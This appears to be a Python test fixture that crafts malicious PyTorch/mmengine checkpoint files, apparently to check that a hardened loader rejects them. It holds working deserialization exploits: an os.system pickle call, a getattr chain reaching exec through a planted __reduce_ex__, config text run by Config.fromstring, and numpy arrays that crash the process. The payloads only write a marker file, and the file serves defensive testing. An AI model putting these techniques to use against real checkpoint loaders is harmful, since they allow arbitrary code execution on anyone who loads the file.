"""Checkpoints an attacker would craft: each is a real exploit of some reader, and a safe
reader must refuse it (or, for the config text, never evaluate it).

``PAYLOADS`` maps a name to ``write(path, marker)``, which writes a checkpoint that, read and
used by a trusting reader, creates the file ``marker`` or crashes the process.
"""
import codecs
import copyreg
import os
from collections import OrderedDict

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class _Getattr:
    """Pickles as ``getattr(obj, name)``."""

    def __init__(self, obj, name):
        self.obj, self.name = obj, name

    def __reduce__(self):
        return getattr, (self.obj, self.name)


class PlantedHistoryBuffer:
    """Pickles as mmengine's HistoryBuffer with extra attributes in its state."""

    def __init__(self, **attributes):
        self.attributes = attributes

    @property
    def __class__(self):  # what pickle checks __newobj__'s class against
        return HistoryBuffer

    def __reduce__(self):
        state = dict(max_length=10, _log_history=[1.0], _count_history=[1], **self.attributes)
        return copyreg.__newobj__, (HistoryBuffer, ), state


class _System:
    """Pickles as ``os.system(command)``."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command, )


class _ObjectArrayFromBytes:
    """Pickles as ``numpy.ndarray((1,), dtype('O'), raw bytes)``: an object array whose one
    element is the pointer 0x4141414141414141; touching it crashes the process."""

    def __reduce__(self):
        return np.ndarray, ((1, ), np.dtype('O'), b'A' * 8)


class _DtypeWithoutReferenceFlags:
    """Pickles as ``numpy.dtype('O8')`` with the flags of a dtype that holds no references."""

    def __reduce__(self):
        return np.dtype, ('O8', False, True), (3, '|', None, None, None, -1, -1, 0)


class _ObjectArrayWithoutFlags:
    """Pickles as numpy pickles arrays (``_reconstruct`` then its state) with the dtype above
    and raw bytes: NumPy copies the bytes in as if they were numbers."""

    def __reduce__(self):
        from numpy._core.multiarray import _reconstruct
        return (_reconstruct, (np.ndarray, (0, ), b'b'),
                (1, (1, ), _DtypeWithoutReferenceFlags(), False, b'A' * 8))


class _OrderedDictWithAttributes:
    """Pickles as an ``OrderedDict`` whose instance attributes the file sets, e.g. a
    ``__deepcopy__`` that copy.deepcopy would call."""

    def __init__(self, **attributes):
        self.attributes = attributes

    def __reduce__(self):
        return OrderedDict, (), self.attributes


def _nested(depth):
    value = 1
    for _ in range(depth):
        value = [value]
    return value


def _save(path, **parts):
    checkpoint = dict(state_dict={}, meta=dict(epoch=1, iter=1))
    for key, value in parts.items():
        if key == 'meta':
            checkpoint['meta'].update(value)
        else:
            checkpoint[key] = value
    torch.save(checkpoint, path)


def getattr_exploit(path, marker):
    """Reach the builtins through ``getattr(getattr, '__self__')`` and plant a
    ``__reduce_ex__`` on a HistoryBuffer in the runtime info, which MessageHub.load_state_dict
    deep-copies: ``__reduce_ex__(4)`` is ``{4: (exec, (code,))}.get(4)``, and deepcopy then
    calls ``exec(code)``."""
    builtins_module = _Getattr(getattr, '__self__')
    run = (_Getattr(builtins_module, 'exec'), (f'open({str(marker)!r}, "w").write("pwned")', ))
    payload = PlantedHistoryBuffer(__reduce_ex__=_Getattr({4: run}, 'get'))
    _save(path, message_hub=dict(log_scalars={}, runtime_info={'loss_history': payload},
                                 resumed_keys={}))


PAYLOADS = {
    # mmengine's Runner.resume hands meta['config'] to Config.fromstring, which executes it.
    'config text': lambda path, marker: _save(path, meta=dict(
        config=f'open({str(marker)!r}, "w").write("pwned")\n')),
    'object array from raw bytes': lambda path, marker: _save(
        path, meta=dict(dataset_meta=dict(classes=_ObjectArrayFromBytes()))),
    'object dtype pickled without its flags': lambda path, marker: _save(
        path, meta=dict(dataset_meta=dict(classes=_ObjectArrayWithoutFlags()))),
    'pickled call': lambda path, marker: _save(
        path, meta=dict(dataset_meta=_System(f'touch {marker}'))),
    'getattr chain': getattr_exploit,
    'planted __deepcopy__': lambda path, marker: _save(
        path, message_hub=dict(log_scalars={}, resumed_keys={},
                               runtime_info=_OrderedDictWithAttributes(
                                   __deepcopy__=codecs.encode))),
}


def write_payload(name, path, marker):
    PAYLOADS[name](path, marker)
    return str(path)

